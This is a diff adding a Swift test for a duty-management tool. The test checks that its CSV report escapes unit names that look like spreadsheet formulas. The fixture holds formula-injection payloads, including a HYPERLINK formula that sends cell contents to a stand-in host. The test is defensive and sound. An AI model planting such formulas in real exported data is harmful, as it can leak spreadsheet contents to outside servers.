@@ -194,6 +194,53 @@ struct DutyctlDirectModeTests {
         #expect(try R.dutyctl(["calendar", "export"] + scope).status == 64)
     }
 
+    @Test("report --csv shows a unit named like a formula as text, never as a formula")
+    func reportCSVNeutralisesFormulas() throws {
+        let config = try Self.imported()
+        let csv = FileManager.default.temporaryDirectory.appendingPathComponent("units-\(UUID().uuidString).csv")
+        defer { try? FileManager.default.removeItem(at: csv) }
+        try """
+        id,name,kind,parent,email
+        gd.sz.evil,"=HYPERLINK(""http://example.invalid/?x=""&A1,""看这里"")",unit,gd.sz,
+        gd.sz.plus,+1-2,unit,gd.sz,
+        gd.sz.at,@SUM(A1:A9),unit,gd.sz,
+        gd.sz.minus,-3+4,unit,gd.sz,
+
+        """.write(to: csv, atomically: true, encoding: .utf8)
+        let added = try R.dutyctl("unit", "import", csv.path, "--config", config)
+        #expect(added.status == 0, "\(added.err)")
+        let r = try R.dutyctl(
+            "report",
+            "--csv",
+            "--year",
+            "2026",
+            "--unit",
+            "gd.sz",
+            "--subtree",
+            "--at",
+            "2026-12-31T12:00:00+08:00",
+            "--config",
+            config
+        )
+        #expect(r.status == 0, "\(r.err)")
+        let rows = r.out.split(whereSeparator: \.isNewline).filter {
+            $0.hasPrefix("gd.sz.evil,") || $0.hasPrefix("gd.sz.plus,") || $0.hasPrefix("gd.sz.at,")
+                || $0.hasPrefix("gd.sz.minus,")
+        }
+        #expect(rows.count >= 4, "\(r.out)")
+        for row in rows {
+            let name = row.split(separator: ",", maxSplits: 1)[1]
+            #expect(
+                name.hasPrefix("\"'=") || name.hasPrefix("'+") || name.hasPrefix("'@") || name.hasPrefix("'-"),
+                "\(row)"
+            )
+        }
+        // Numbers stay numbers.
+        #expect(
+            rows.allSatisfy { !$0.contains(",'") || $0.split(separator: ",").last.map { !$0.hasPrefix("'") } == true }
+        )
+    }
+
     @Test("upcoming --json lists occurrences with the documented fields")
     func upcomingJSON() throws {
         let config = try Self.imported()
